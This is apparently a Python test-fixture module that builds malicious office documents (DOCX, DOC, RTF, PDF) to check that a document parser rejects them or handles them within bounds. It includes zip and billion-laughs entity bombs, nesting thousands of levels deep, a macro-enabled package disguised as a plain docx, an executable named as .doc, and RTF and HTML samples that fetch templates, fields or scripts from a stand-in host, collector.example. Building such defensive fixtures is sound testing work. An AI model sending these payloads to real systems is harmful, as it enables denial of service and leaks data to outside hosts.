"""Office files made to hurt whoever reads them: locked, cut off, disguised, endless, or reaching out."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from io import BytesIO

from tests.documents.samples import PE, docx_bytes, ole_bytes, with_member

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
_PLAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _with_body(body: bytes) -> bytes:
    document = b'<w:document xmlns:w="%s"><w:body>%s</w:body></w:document>' % (_W.encode(), body)
    return with_member(docx_bytes("通知"), "word/document.xml", document)


def locked_package() -> bytes:
    """A docx with a password: an OLE container with the encrypted package."""
    return ole_bytes(
        {"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00", "EncryptedPackage": b"\x9c" * 5000}
    )


def locked_old_document() -> bytes:
    """A doc whose header says that its text is encrypted."""
    fib = struct.pack("<HHHHHHI", 0xA5EC, 0xC1, 0, 0x804, 0, 0x0100 | 0x0200, 0x0013)
    return ole_bytes({"WordDocument": fib + b"\x5a" * 6000, "1Table": b"\x10\x00" + b"\x77" * 5000})


def bomb() -> bytes:
    """A docx of some hundred kilobytes whose text is half a gigabyte of blanks."""
    return _with_body(b"<w:p><w:r><w:t>" + b" " * (500 << 20) + b"</w:t></w:r></w:p>")


def million_paragraphs() -> bytes:
    """A docx of a million short paragraphs, each another, so that it is no bomb by its packing."""
    paragraphs = (b"<w:p><w:r><w:t>%d</w:t></w:r></w:p>" % (n * 7919 % 1_000_003) for n in range(1_000_000))
    return _with_body(b"".join(paragraphs))


def wide_table() -> bytes:
    """A docx with a table of ten thousand columns."""
    cells = b"<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>" * 10_000
    return _with_body(b"<w:tbl><w:tr>%s</w:tr></w:tbl>" % cells)


def page_of(text: str) -> bytes:
    """A docx of one line of this text, a third of a million characters long, above a title."""
    long = f"<w:p><w:r><w:t>{text * (330_000 // len(text))}</w:t></w:r></w:p>"
    return _with_body(f"{long}<w:p><w:r><w:t>关于开展检查的通知</w:t></w:r></w:p>".encode())


def nested_tables(depth: int = 5000) -> bytes:
    """A docx with a table in a table, thousands deep."""
    opened = b"<w:tbl><w:tr><w:tc>" * depth
    closed = b"<w:p/></w:tc></w:tr></w:tbl>" * depth
    return _with_body(opened + b"<w:p/>" + closed)


def with_macros() -> bytes:
    """A document with macros under the name of one without."""
    package = docx_bytes("通知")
    with zipfile.ZipFile(BytesIO(package)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    package = with_member(package, "[Content_Types].xml", types.replace(_PLAIN_TYPE, _MACRO_TYPE).encode())
    return with_member(package, "word/vbaProject.bin", ole_bytes({"VBA": b"Sub AutoOpen()"}))


def entities() -> bytes:
    """A docx whose text grows a billionfold by entities."""
    lines = "".join(
        '<!ENTITY e{n} "{again}">'.format(n=n, again=f"&e{n - 1};" * 10 if n else "通知") for n in range(10)
    )
    xml = f'<!DOCTYPE d [{lines}]><w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>&e9;</w:t></w:r></w:p>'
    return with_member(docx_bytes("通知"), "word/document.xml", f"{xml}</w:body></w:document>".encode())


def cut_off(old_document: bytes, share: float) -> bytes:
    """The first part of a doc."""
    return old_document[: int(len(old_document) * share)]


def reaching_text() -> bytes:
    """Rich text that fetches its template from the network."""
    return rb"{\rtf1\ansi{\*\template http://collector.example/a.dotm}\'cd\'a8\'d6\'aa\par}"


def linked_field(address: str = "http://collector.example") -> bytes:
    """Rich text with fields that include a file and a picture from the network."""
    fields = "".join(
        rf"{{\field{{\*\fldinst {word} {address}/{name}}}{{\fldrslt x}}}}"
        for word, name in (("INCLUDETEXT", "a.docx"), ("INCLUDEPICTURE", "a.png"))
    )
    return rb"{\rtf1\ansi " + fields.encode() + rb"\par}"


def deep_groups() -> bytes:
    """Rich text of half a million groups in each other."""
    return rb"{\rtf1\ansi " + b"{" * 500_000 + b"a" + b"}" * 500_000 + b"}"


def deep_rich_tables() -> bytes:
    """Rich text of tables in each other, two thousand deep."""
    opened = b"".join(rb"\pard\intbl\itap%d a" % level for level in range(1, 2000))
    closed = b"".join(rb"\nestcell{\*\nesttableprops\trowd\cellx9000\nestrow}" for _ in range(1998))
    return rb"{\rtf1\ansi " + opened + closed + rb"\cell\row}"


def mangled_pdf() -> bytes:
    """A PDF that is nothing behind its first line."""
    return b"%PDF-1.7\n" + b"1 0 obj<</Kids[1 0 R]/Type/Pages/Count 99999999>>endobj " * 50


#: Name → (name it bears when handed in, how it is made); these are turned away.
REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "locked docx": ("通知.docx", locked_package),
    "locked docx named doc": ("通知.doc", locked_package),
    "locked doc": ("通知.doc", locked_old_document),
    "locked wps": ("通知.wps", locked_old_document),
    "bomb": ("通知.docx", bomb),
    "bomb named wps": ("通知.wps", bomb),
    "macros": ("通知.docx", with_macros),
    "program named doc": ("通知.doc", lambda: PE),
    "program named wps": ("通知.wps", lambda: PE),
    "entities": ("通知.docx", entities),
    "reaching text": ("通知.doc", reaching_text),
    "empty": ("通知.docx", lambda: b""),
    "empty doc": ("通知.doc", lambda: b""),
    "mangled pdf": ("通知.pdf", mangled_pdf),
    "page named doc": ("通知.doc", lambda: b"<html><script src=http://collector.example/a.js></script>"),
}
#: These may be read or turned away; what counts is that it ends, and within bounds.
BOUNDED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "million paragraphs": ("通知.docx", million_paragraphs),
    "wide table": ("通知.docx", wide_table),
    "nested tables": ("通知.docx", nested_tables),
    "linked field": ("通知.rtf", linked_field),
    "deep groups": ("通知.doc", deep_groups),
    "deep rich tables": ("通知.wps", deep_rich_tables),
    "blanks": ("通知.docx", lambda: page_of("　")),
    "years and blanks": ("通知.docx", lambda: page_of("2023 ")),
    "organs and blanks": ("通知.docx", lambda: page_of("文川区人民政府 ")),
    "brackets": ("通知.docx", lambda: page_of("〔2023〕（")),
    "beginnings": ("通知.docx", lambda: page_of("自2023年1月1日起有效期")),
    "attachments": ("通知.docx", lambda: page_of("附件：1．")),
}
